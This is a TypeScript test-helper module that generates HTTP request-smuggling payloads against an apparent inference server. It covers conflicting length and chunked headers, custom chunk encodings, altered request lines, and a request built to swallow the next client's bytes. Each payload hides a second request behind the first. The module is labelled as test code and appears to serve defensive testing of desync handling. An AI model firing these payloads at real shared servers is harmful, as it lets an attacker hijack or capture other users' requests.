/**
 * Requests whose end two readers may see at different places, or that ask a server to treat the header that frames them as one of the
 * connection: what the literature on request smuggling has, each with a whole request hidden behind it. Test code only.
 */
/** Paths that lead over a connection that other clients share. */
export interface Target {
  infer: string;
  metadata: string;
}

export interface Trick {
  name: string;
  bytes: (target: Target) => Buffer;
}

/** What the answer to a hidden request has as its id. */
export const HIDDEN = 'hidden-request';

export const inference = (id: string, first: number): string =>
  JSON.stringify({ id, inputs: [{ name: 'x', datatype: 'FP32', shape: [1, 3], data: [first, 0, 0] }] });

export const OWN = inference('attacker', 1);
export const length = (text: string) => Buffer.byteLength(text, 'latin1');

interface Parts {
  line?: string;
  method?: string;
  fields: readonly string[];
  body?: string;
}

/** One request as text in latin1; `host` is there unless the fields say otherwise. */
export function request(
  target: string,
  { method = 'POST', line = `${method} ${target} HTTP/1.1`, fields, body = '' }: Parts,
) {
  return [line, 'Host: x', 'Content-Type: application/json', ...fields, '', body].join('\r\n');
}

/** The whole request that is hidden: answered, it has an id of its own. */
export const hidden = (target: Target) =>
  request(target.infer, {
    fields: [`Content-Length: ${length(inference(HIDDEN, 2))}`],
    body: inference(HIDDEN, 2),
  });

/** One that waits for the next 500 bytes, whoever sends them. */
export const swallowing = (target: Target) =>
  request(target.infer, { fields: ['Content-Length: 500'], body: '{"x":"' });

type Make = (target: Target) => string;
export const trick = (name: string, make: Make): Trick => ({
  name,
  bytes: (target) => Buffer.from(make(target), 'latin1'),
});

/** A request whose body, by a header that some heed, is the hidden request. */
export const covering =
  (
    fields: (size: number) => string[],
    { method = 'GET', smuggle = hidden }: { method?: string; smuggle?: Make } = {},
  ): Make =>
  (target) => {
    const body = smuggle(target);
    const path = method === 'POST' ? target.infer : target.metadata;
    return request(path, { method, fields: fields(length(body)), body });
  };

/** An inference that some find longer or shorter than others; the hidden request is what lies between. */
export const inferring =
  (
    fields: (own: number, all: number) => string[],
    wrap: (own: string, rest: string) => string = (own, rest) => own + rest,
  ): Make =>
  (target) => {
    const body = wrap(OWN, hidden(target));
    return request(target.infer, { fields: fields(length(OWN), length(body)), body });
  };

export const chunk = (data: string) => `${length(data).toString(16)}\r\n${data}\r\n`;
export const LAST = '0\r\n\r\n';
/** Ended by its chunks; those who count bytes read on. */
export const chunkedThenRest = (own: string, rest: string) => chunk(own) + LAST + rest;
export const inChunks = (coding: string): Make => inferring(() => [coding], chunkedThenRest);
export const withLength = (...fields: string[]): Make =>
  inferring((own) => fields.map((field) => field.replaceAll('N', String(own))));
/** The hidden request lies within chunks that are written in a way of their own. */
export const chunkedAs = (write: (data: string) => string): Make =>
  inferring(
    () => ['Transfer-Encoding: chunked'],
    (own, rest) => write(own) + LAST + rest,
  );
export const head =
  (change: (text: string) => string): Make =>
  (target) =>
    change(request(target.infer, { fields: [`Content-Length: ${length(OWN)}`], body: OWN })) + hidden(target);
export const line =
  (make: (path: string) => string): Make =>
  (target) =>
    request(target.infer, { line: make(target.infer), fields: [`Content-Length: ${length(OWN)}`], body: OWN }) +
    hidden(target);
